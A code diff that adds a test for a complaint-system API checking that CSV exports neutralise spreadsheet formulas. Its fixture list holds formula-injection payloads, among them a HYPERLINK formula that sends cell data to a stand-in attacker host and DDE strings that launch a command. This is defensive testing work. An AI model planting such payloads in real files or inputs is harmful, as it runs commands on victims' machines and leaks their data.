@@ -163,6 +163,35 @@ def test_export_is_masked_and_audited(work):
                       headers={"Authorization": f"Bearer {token['access_token']}"}).status_code == 422
 
 
+FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"点击查看")岳麓区望月湖街道路灯坏了', "+cmd|' /C calc'!A0 岳麓区路灯坏了",
+            "@SUM(1+1)*cmd|' /C calc'!A0 岳麓区", "-2+3+cmd|' /C calc'!A0 岳麓区望月湖街道"]
+
+
+def test_export_neutralises_spreadsheet_formulas(work):
+    """Review 2026-12-06, M5: a complaint starting with = + - @ ran as a formula when officials opened the export."""
+    import csv
+    import io
+
+    from api.work_views import csv_cell
+
+    client, keys, factory, new = work
+    for text in FORMULAS:
+        new(text, _routing(CHENGGUAN, "auto", 0.97) | {"address": {"standard_address": "=1+1", "district": {"adcode": "430104"}}})
+    today = dt.datetime.now(CITY_TZ).date()
+    params = {"start": (today - dt.timedelta(days=1)).isoformat(), "end": (today + dt.timedelta(days=1)).isoformat()}
+    response = client.get("/api/v1/exports/orders.csv", params=params, headers=_h(keys, "reader"))
+    assert response.status_code == 200
+    rows = list(csv.reader(io.StringIO(response.text.lstrip("\ufeff"))))
+    header, rows = rows[0], rows[1:]
+    assert len(rows) == len(FORMULAS)
+    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
+    assert {row[header.index("address")] for row in rows} == {"'=1+1"}
+    texts = sorted(row[header.index("text")] for row in rows)
+    assert texts == sorted("'" + text for text in FORMULAS)         # shown as text, nothing else changed
+    assert csv_cell("\t=1+1") == "'\t=1+1" and csv_cell("\r=1+1") == "'\r=1+1" and csv_cell("望月湖") == "望月湖"
+    assert csv_cell(None) == "" and csv_cell(3) == "3" and csv_cell("2026-12-06T10:00:00") == "2026-12-06T10:00:00"
+
+
 # -- webhooks --------------------------------------------------------------------------------------------------
 class Receiver:
     """A department's system on loopback: records what it receives, answers with the scripted status codes."""
